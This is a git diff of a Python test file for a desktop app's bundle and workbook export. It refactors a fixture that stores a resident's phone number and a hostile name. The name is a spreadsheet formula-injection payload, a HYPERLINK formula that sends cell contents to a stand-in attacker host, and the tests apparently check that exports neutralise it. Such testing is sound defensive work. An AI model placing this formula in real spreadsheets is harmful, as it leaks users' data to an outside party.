@@ -11,16 +11,14 @@ from typing import Any
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import update
 
-from tests.bundle_helpers import World, build_world
+from tests.bundle_helpers import World, build_world, set_contact_resident
 from waakvlam_desktop.bundles import format as fmt
 from waakvlam_desktop.bundles.export import export_bundle
 from waakvlam_desktop.bundles.reader import OpenedBundle, verify_bytes
 from waakvlam_desktop.clock import FixedClock
 from waakvlam_desktop.documents.workbook import workbook_bytes
 from waakvlam_desktop.domain.exports import Period
-from waakvlam_desktop.storage.models import Referral, Resident
 from waakvlam_desktop.storage.vault import Vault
 
 NOV = Period.parse("2026-11")
@@ -31,17 +29,7 @@ HOSTILE = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
 @pytest.fixture
 def world(vault: Vault) -> World:
     world = build_world(vault)
-    with vault.session() as s:
-        s.execute(
-            update(Resident)
-            .where(Resident.household_id == world.households["fam. Jansen"])
-            .values(phone="0612345678", name=HOSTILE)
-        )
-        s.execute(  # the resident agreed to be phoned: the number travels (disclosure spec)
-            update(Referral)
-            .where(Referral.household_id == world.households["fam. Jansen"])
-            .values(consent_may_call=True)
-        )
+    set_contact_resident(world, "fam. Jansen", phone="0612345678", name=HOSTILE)
     return world
 
 
